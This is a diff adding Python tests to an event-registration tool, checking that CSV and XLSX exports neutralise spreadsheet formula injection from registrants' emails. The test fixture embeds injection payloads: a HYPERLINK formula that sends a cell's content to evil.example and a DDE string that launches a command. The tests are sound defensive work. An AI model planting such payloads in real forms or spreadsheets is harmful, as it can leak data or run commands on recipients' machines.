@@ -108,3 +108,81 @@ from = "a@b.example"
         encoding="utf-8",
     )
     return path
+
+
+FORMULA_MAIL = (
+    b"From: Eva Klein <=1+1@formel.example>\r\n"
+    b"To: anmeldung@stadt.example\r\n"
+    b"Subject: Anmeldung\r\n"
+    b"Message-ID: <formel-1@formel.example>\r\n"
+    b"Content-Type: text/plain; charset=utf-8\r\n"
+    b"\r\n"
+    b"Hiermit melde ich mich verbindlich an.\r\n\r\n"
+    b"Name: Eva Klein\r\n"
+    b'Organisation: =HYPERLINK("http://evil.example/?d="&A2,"Stadt Bonn")\r\n'
+    b"Funktion: +cmd|' /C calc'!A0\r\n"
+)
+
+
+def test_exports_keep_formulas_from_strangers_as_text(
+    servers: MailServers, tmp_path: Path, db_url: str
+) -> None:
+    """A registrant's "=HYPERLINK(…)" must reach the organiser's spreadsheet as text (OWASP
+    CSV injection), in CSV and in the workbook; the stored value and JSON stay as written."""
+    import csv
+    import io
+    import json
+
+    config = write_config(tmp_path / "anmeldung.toml", servers, capacity=2, db_url=db_url)
+    run_cli(config, "init")
+    client = servers.dovecot.imap(MAILBOX_USER)
+    try:
+        append(client, "INBOX", FORMULA_MAIL)
+    finally:
+        client.logout()
+    run_cli(config, "poll")
+    stored = json.loads(run_cli(config, "export", "--format", "json").out)
+    assert stored[0]["organisation"].startswith("=HYPERLINK(")
+    assert stored[0]["email"] == "=1+1@formel.example"
+
+    out = tmp_path / "liste.csv"
+    result = run_cli(config, "export", "--format", "csv", "--delimiter", ";", "-o", str(out))
+    assert "wrote 1 registration(s)" in result.err
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    assert not list(tmp_path.glob(".liste.csv.*"))  # the part file was renamed
+    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig")), delimiter=";"))
+    assert rows[0]["organisation"] == "'" + stored[0]["organisation"]
+    assert rows[0]["function"] == "'+cmd|' /C calc'!A0"
+    assert rows[0]["email"] == "'=1+1@formel.example"
+    assert rows[0]["name"] == "Eva Klein"  # ordinary text untouched
+    assert run_cli(config, "export", "--format", "csv", "--delimiter", ";").out == out.read_text(
+        "utf-8"
+    )
+
+    book = tmp_path / "liste.xlsx"
+    run_cli(config, "export", "--format", "xlsx", "-o", str(book))
+    ws = openpyxl.load_workbook(book).active
+    assert ws is not None
+    assert ws["F2"].value == stored[0]["organisation"]
+    assert ws["F2"].data_type == "s"  # text, not a formula
+    assert ws["B2"].data_type == "s"
+
+
+def test_write_csv_streams_rows() -> None:
+    import io
+
+    from anmeldung.reports import EXPORT_FIELDS, spreadsheet_text, write_csv
+
+    def rows():  # type: ignore[no-untyped-def]
+        for i in range(3):
+            yield {"id": i, "name": f"-{i}" if i else "Anna", "status": "confirmed"}
+
+    out = io.StringIO()
+    assert write_csv(rows(), out, ";", bom=False) == 3
+    lines = out.getvalue().split("\r\n")
+    assert lines[0] == ";".join(EXPORT_FIELDS)
+    assert lines[1].startswith("0;;Anna;")
+    assert lines[2].startswith("1;;'-1;")
+    assert spreadsheet_text("@SUM(A1)") == "'@SUM(A1)"
+    assert spreadsheet_text("Stadt Bonn") == "Stadt Bonn"
+    assert spreadsheet_text(5) == 5
